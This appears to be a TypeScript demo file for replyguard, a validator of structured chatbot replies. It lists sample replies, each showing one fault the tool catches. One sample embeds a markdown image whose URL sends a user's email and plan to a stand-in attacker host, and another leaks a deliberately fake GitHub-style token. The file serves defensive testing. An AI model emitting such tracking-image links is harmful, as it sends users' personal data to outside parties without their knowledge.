/** The replies a visitor can pick, each showing one thing replyguard does. */
export interface Example {
  readonly id: string;
  readonly label: string;
  readonly reply: () => string;
}

const pretty = (value: unknown) => JSON.stringify(value, null, 2);
// A small gradient bar (a real PNG made for this demo), so the preview shows an image offline.
const CHART_PNG =
  'iVBORw0KGgoAAAANSUhEUgAAAGAAAAAYCAIAAACKi2/DAAARv0lEQVR42g3QgSr+XADA4e++/kREhIiIjnGaZq9ZZsyyphlrOsYse0dERIiICBERcRW/m/k8l/D890/QIGgUNAmaBS2CVkGboF3QIegUdAm6BT2CXkGfoF8wIBgUDAmGBSMCIRgVjAnGBVKgCyYEhmBSUBNMCaYFtmBG4AhmBXOCecGCwBcsCgJBKFgSRIJlwYpgVZAIUsGaQAnWBRuCTcGWoBBsC0pBXbAj2BXsCfYFB4JDwZHgWHAiOBWcCc4FF4JLwZXgWnAjuBXcCe4FD4JHwZPgWfAieBW8Cd4FH4JPwZfgW/Aj+BX890+jQaNRo0mjWaNFo1WjTaNdo0OjU6NLo1ujR6NXo0+jX2NAY1BjSGNYY0RDaIxqjGmMa0gNXWNCw9CY1KhpTGlMa9gaMxqOxqzGnMa8xoKGr7GoEWiEGksakcayxorGqkaikWqsaSiNdY0NjU2NLY1CY1uj1Khr7Gjsauxp7GscaBxqHGkca5xonGqcaZxrXGhcalxpXGvcaNxq3GncazxoPGo8aTxrvGi8arxpvGt8aHxqfGl8a/xo/Gp/QZIGSaOkSdIsaZG0Stok7ZIOSaekS9It6ZH0Svok/ZIByaBkSDIsGZEIyahkTDIukRJdMiExJJOSmmRKMi2xJTMSRzIrmZPMSxYkvmRREkhCyZIkkixLViSrkkSSStYkSrIu2ZBsSrYkhWRbUkrqkh3JrmRPsi85kBxKjiTHkhPJqeRMci65kFxKriTXkhvJreROci95kDxKniTPkhfJq+RN8i75kHxKviTfkh/Jr/wL0mnQadRp0mnWadFp1WnTadfp0OnU6dLp1unR6dXp0+nXGdAZ1BnSGdYZ0RE6ozpjOuM6UkfXmdAxdCZ1ajpTOtM6ts6MjqMzqzOnM6+zoOPrLOoEOqHOkk6ks6yzorOqk+ikOms6SmddZ0NnU2dLp9DZ1il16jo7Ors6ezr7Ogc6hzpHOsc6JzqnOmc65zoXOpc6VzrXOjc6tzp3Ovc6DzqPOk86zzovOq86bzrvOh86nzpfOt86Pzq/+l+QQYNBo0GTQbNBi0GrQZtBu0GHQadBl0G3QY9Br0GfQb/BgMGgwZDBsMGIgTAYNRgzGDeQBrrBhIFhMGlQM5gymDawDWYMHINZgzmDeYMFA99g0SAwCA2WDCKDZYMVg1WDxCA1WDNQBusGGwabBlsGhcG2QWlQN9gx2DXYM9g3ODA4NDgyODY4MTg1ODM4N7gwuDS4Mrg2uDG4NbgzuDd4MHg0eDJ4NngxeDV4M3g3+DD4NPgy+Db4Mfg1/oJMGkwaTZpMmk1aTFpN2kzaTTpMOk26TLpNekx6TfpM+k0GTAZNhkyGTUZMhMmoyZjJuIk00U0mTAyTSZOayZTJtIltMmPimMyazJnMmyyY+CaLJoFJaLJkEpksm6yYrJokJqnJmokyWTfZMNk02TIpTLZNSpO6yY7Jrsmeyb7JgcmhyZHJscmJyanJmcm5yYXJpcmVybXJjcmtyZ3JvcmDyaPJk8mzyYvJq8mbybvJh8mnyZfJt8mPya/5F2TRYNFo0WTRbNFi0WrRZtFu0WHRadFl0W3RY9Fr0WfRbzFgMWgxZDFsMWIhLEYtxizGLaSFbjFhYVhMWtQspiymLWyLGQvHYtZizmLeYsHCt1i0CCxCiyWLyGLZYsVi1SKxSC3WLJTFusWGxabFlkVhsW1RWtQtdix2LfYs9i0OLA4tjiyOLU4sTi3OLM4tLiwuLa4sri1uLG4t7izuLR4sHi2eLJ4tXixeLd4s3i0+LD4tviy+LX4sfq2/IJsGm0abJptmmxabVps2m3abDptOmy6bbpsem16bPpt+mwGbQZshm2GbERthM2ozZjNuI210mwkbw2bSpmYzZTNtY9vM2Dg2szZzNvM2Cza+zaJNYBPaLNlENss2KzarNolNarNmo2zWbTZsNm22bAqbbZvSpm6zY7Nrs2ezb3Ngc2hzZHNsc2JzanNmc25zYXNpc2VzbXNjc2tzZ3Nv82DzaPNk82zzYvNq82bzbvNh82nzZfNt82Pza/8FOTQ4NDo0OTQ7tDi0OrQ5tDt0OHQ6dDl0O/Q49Dr0OfQ7DDgMOgw5DDuMOAiHUYcxh3EH6aA7TDgYDpMONYcph2kH22HGwXGYdZhzmHdYcPAdFh0Ch9BhySFyWHZYcVh1SBxShzUH5bDusOGw6bDlUDhsO5QOdYcdh12HPYd9hwOHQ4cjh2OHE4dThzOHc4cLh0uHK4drhxuHW4c7h3uHB4dHhyeHZ4cXh1eHN4d3hw+HT4cvh2+HH4df5y/IpcGl0aXJpdmlxaXVpc2l3aXDpdOly6Xbpcel16XPpd9lwGXQZchl2GXERbiMuoy5jLtIF91lwsVwmXSpuUy5TLvYLjMujsusy5zLvMuCi++y6BK4hC5LLpHLssuKy6pL4pK6rLkol3WXDZdNly2XwmXbpXSpu+y47Lrsuey7HLgcuhy5HLucuJy6nLmcu1y4XLpcuVy73Ljcuty53Ls8uDy6PLk8u7y4vLq8uby7fLh8uny5fLv8uPy6f0EeDR6NHk0ezR4tHq0ebR7tHh0enR5dHt0ePR69Hn0e/R4DHoMeQx7DHiMewmPUY8xj3EN66B4THobHpEfNY8pj2sP2mPFwPGY95jzmPRY8fI9Fj8Aj9FjyiDyWPVY8Vj0Sj9RjzUN5rHtseGx6bHkUHtsepUfdY8dj12PPY9/jwOPQ48jj2OPE49TjzOPc48Lj0uPK49rjxuPW487j3uPB49HjyePZ48Xj1ePN493jw+PT48vj2+PH49f7C/Jp8Gn0afJp9mnxafVp82n36fDp9Ony6fbp8en16fPp9xnwGfQZ8hn2GfERPqM+Yz7jPtJH95nwMXwmfWo+Uz7TPrbPjI/jM+sz5zPvs+Dj+yz6BD6hz5JP5LPss+Kz6pP4pD5rPspn3WfDZ9Nny6fw2fYpfeo+Oz67Pns++z4HPoc+Rz7HPic+pz5nPuc+Fz6XPlc+1z43Prc+dz73Pg8+jz5PPs8+Lz6vPm8+7z4fPp8+Xz7fPj8+v/5fUEBDQGNAU0BzQEtAa0BbQHtAR0BnQFdAd0BPQG9AX0B/wEDAYMBQwHDASIAIGA0YCxgPkAF6wESAETAZUAuYCpgOsANmApyA2YC5gPmAhQA/YDEgCAgDlgKigOWAlYDVgCQgDVgLUAHrARsBmwFbAUXAdkAZUA/YCdgN2AvYDzgIOAw4CjgOOAk4DTgLOA+4CLgMuAq4DrgJuA24C7gPeAh4DHgKeA54CXgNeAt4D/gI+Az4CvgO+An4Df6CQhpCGkOaQppDWkJaQ9pC2kM6QjpDukK6Q3pCekP6QvpDBkIGQ4ZChkNGQkTIaMhYyHiIDNFDJkKMkMmQWshUyHSIHTIT4oTMhsyFzIcshPghiyFBSBiyFBKFLIeshKyGJCFpyFqIClkP2QjZDNkKKUK2Q8qQeshOyG7IXsh+yEHIYchRyHHISchpyFnIechFyGXIVch1yE3IbchdyH3IQ8hjyFPIc8hLyGvIW8h7yEfIZ8hXyHfIT8hv+BcU0RDRGNEU0RzREtEa0RbRHtER0RnRFdEd0RPRG9EX0R8xEDEYMRQxHDESISJGI8YixiNkhB4xEWFETEbUIqYipiPsiJkIJ2I2Yi5iPmIhwo9YjAgiwoiliChiOWIlYjUiiUgj1iJUxHrERsRmxFZEEbEdUUbUI3YidiP2IvYjDiIOI44ijiNOIk4jziLOIy4iLiOuIq4jbiJuI+4i7iMeIh4jniKeI14iXiPeIt4jPiI+I74iviN+In6jv6CYhpjGmKaY5piWmNaYtpj2mI6YzpiumO6YnpjemL6Y/piBmMGYoZjhmJEYETMaMxYzHiNj9JiJGCNmMqYWMxUzHWPHzMQ4MbMxczHzMQsxfsxiTBATxizFRDHLMSsxqzFJTBqzFqNi1mM2YjZjtmKKmO2YMqYesxOzG7MXsx9zEHMYcxRzHHMScxpzFnMecxFzGXMVcx1zE3MbcxdzH/MQ8xjzFPMc8xLzGvMW8x7zEfMZ8xXzHfMT8xv/BSU0JDQmNCU0J7QktCa0JbQndCR0JnQldCf0JPQm9CX0JwwkDCYMJQwnjCSIhNGEsYTxBJmgJ0wkGAmTCbWEqYTpBDthJsFJmE2YS5hPWEjwExYTgoQwYSkhSlhOWElYTUgS0oS1BJWwnrCRsJmwlVAkbCeUCfWEnYTdhL2E/YSDhMOEo4TjhJOE04SzhPOEi4TLhKuE64SbhNuEu4T7hIeEx4SnhOeEl4TXhLeE94SPhM+Er4TvhJ+E3+QvKKUhpTGlKaU5pSWlNaUtpT2lI6UzpSulO6UnpTelL6U/ZSBlMGUoZThlJEWkjKaMpYynyBQ9ZSLFSJlMqaVMpUyn2CkzKU7KbMpcynzKQoqfspgSpIQpSylRynLKSspqSpKSpqylqJT1lI2UzZStlCJlO6VMqafspOym7KXspxykHKYcpRynnKScppylnKdcpFymXKVcp9yk3KbcpdynPKQ8pjylPKe8pLymvKW8p3ykfKZ8pXyn/KT8pn9BigZFo6JJ0axoUbQq2hTtig5Fp6JL0a3oUfQq+hT9igHFoGJIMawYUQjFqGJMMa6QCl0xoTAUk4qaYkoxrbAVMwpHMauYU8wrFhS+YlERKELFkiJSLCtWFKuKRJEq1hRKsa7YUGwqthSFYltRKuqKHcWuYk+xrzhQHCqOFMeKE8Wp4kxxrrhQXCquFNeKG8Wt4k5xr3hQPCqeFM+KF8Wr4k3xrvhQfCq+FN+KH8Wv+gvKaMhozGjKaM5oyWjNaMtoz+jI6MzoyujO6MnozejL6M8YyBjMGMoYzhjJEBmjGWMZ4xkyQ8+YyDAyJjNqGVMZ0xl2xkyGkzGbMZcxn7GQ4WcsZgQZYcZSRpSxnLGSsZqRZKQZaxkqYz1jI2MzYyujyNjOKDPqGTsZuxl7GfsZBxmHGUcZxxknGacZZxnnGRcZlxlXGdcZNxm3GXcZ9xkPGY8ZTxnPGS8ZrxlvGe8ZHxmfGV8Z3xk/Gb/ZX1BOQ05jTlNOc05LTmtOW057TkdOZ05XTndOT05vTl9Of85AzmDOUM5wzkiOyBnNGcsZz5E5es5EjpEzmVPLmcqZzrFzZnKcnNmcuZz5nIUcP2cxJ8gJc5ZyopzlnJWc1ZwkJ81Zy1E56zkbOZs5WzlFznZOmVPP2cnZzdnL2c85yDnMOco5zjnJOc05yznPuci5zLnKuc65ybnNucu5z3nIecx5ynnOecl5zXnLec/5yPnM+cr5zvnJ+c3/ggoaChoLmgqaC1oKWgvaCtoLOgo6C7oKugt6CnoL+gr6CwYKBguGCoYLRgpEwWjBWMF4gSzQCyYKjILJglrBVMF0gV0wU+AUzBbMFcwXLBT4BYsFQUFYsFQQFSwXrBSsFiQFacFagSpYL9go2CzYKigKtgvKgnrBTsFuwV7BfsFBwWHBUcFxwUnBacFZwXnBRcFlwVXBdcFNwW3BXcF9wUPBY8FTwXPBS8FrwVvBe8FHwWfBV8F3wU/Bb/EXVNJQ0ljSVNJc0lLSWtJW0l7SUdJZ0lXSXdJT0lvSV9JfMlAyWDJUMlwyUiJKRkvGSsZLZIleMlFilEyW1EqmSqZL7JKZEqdktmSuZL5kocQvWSwJSsKSpZKoZLlkpWS1JClJS9ZKVMl6yUbJZslWSVGyXVKW1Et2SnZL9kr2Sw5KDkuOSo5LTkpOS85KzksuSi5LrkquS25KbkvuSu5LHkoeS55KnkteSl5L3kreSz5KPku+Sr5Lfkp+y7+gioaKxoqmiuaKlorWiraK9oqOis6Kroruip6K3oq+iv6KgYrBiqGK4YqRClExWjFWMV4hK/SKiQqjYrKiVjFVMV1hV8xUOBWzFXMV8xULFX7FYkVQEVYsVUQVyxUrFasVSUVasVahKtYrNio2K7YqiortirKiXrFTsVuxV7FfcVBxWHFUcVxxUnFacVZxXnFRcVlxVXFdcVNxW3FXcV/xUPFY8VTxXPFS8VrxVvFe8VHxWfFV8V3xU/Fb8T/RAmWRWURUewAAAABJRU5ErkJggg==';
// Clearly fake: the shape of a GitHub token, made of a repeated word.
const demoToken = `ghp_${'Dem0'.repeat(9)}`;

function pngBase64(bytes: number): string {
  const data = new Uint8Array(bytes);
  data.set([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  let binary = '';
  for (let i = 0; i < data.length; i++) binary += String.fromCharCode(data[i]!);
  return btoa(binary);
}

export const EXAMPLES: readonly Example[] = [
  {
    id: 'valid',
    label: 'A valid mixed reply',
    reply: () =>
      pretty({
        segments: [
          {
            type: 'markdown',
            data: {
              content:
                '**Build #482 passed** ✅\n\nAll *312* tests are green. Details in [the run log](https://ci.example.com/runs/482).',
            },
          },
          { type: 'mention', data: { target: '10001' } },
          { type: 'text', data: { text: ', please review the release notes before Friday.' } },
          { type: 'image', data: { media: { kind: 'base64', value: CHART_PNG } } },
          {
            type: 'share',
            data: { url: 'https://example.com/releases/2.4', title: 'Release 2.4 notes' },
          },
          { type: 'dice', data: {} },
        ],
      }),
  },
  {
    id: 'duplicate',
    label: 'A duplicate key',
    reply: () =>
      '{\n  "segments": [\n    { "type": "text", "data": { "text": "Refund approved", "text": "Refund denied" } }\n  ]\n}',
  },
  {
    id: 'extra',
    label: 'An extra field',
    reply: () => pretty({ segments: [{ type: 'text', data: { text: 'Hello!', bold: true } }] }),
  },
  {
    id: 'fenced',
    label: 'Fenced JSON',
    reply: () =>
      '```json\n' + pretty({ segments: [{ type: 'text', data: { text: 'Hello!' } }] }) + '\n```',
  },
  {
    id: 'leak',
    label: 'A leaked key',
    reply: () =>
      pretty({
        segments: [
          {
            type: 'markdown',
            data: { content: `Deploy with \`GITHUB_TOKEN=${demoToken}\` and you are done.` },
          },
        ],
      }),
  },
  {
    id: 'mention',
    label: 'A bad mention',
    reply: () =>
      pretty({
        segments: [
          { type: 'mention', data: { target: '66666' } },
          { type: 'text', data: { text: ' won the raffle!' } },
        ],
      }),
  },
  {
    id: 'exfil',
    label: 'A tracking image',
    reply: () =>
      pretty({
        segments: [
          {
            type: 'markdown',
            data: {
              content:
                'Your report is ready.\n\n![report chart](https://evil.example/collect?user=ada%40example.com&plan=pro)',
            },
          },
        ],
      }),
  },
  {
    id: 'oversized',
    label: 'An oversized base64 image',
    reply: () =>
      pretty({
        segments: [
          { type: 'text', data: { text: 'Here is the chart:' } },
          { type: 'image', data: { media: { kind: 'base64', value: pngBase64(96 * 1024) } } },
        ],
      }),
  },
];
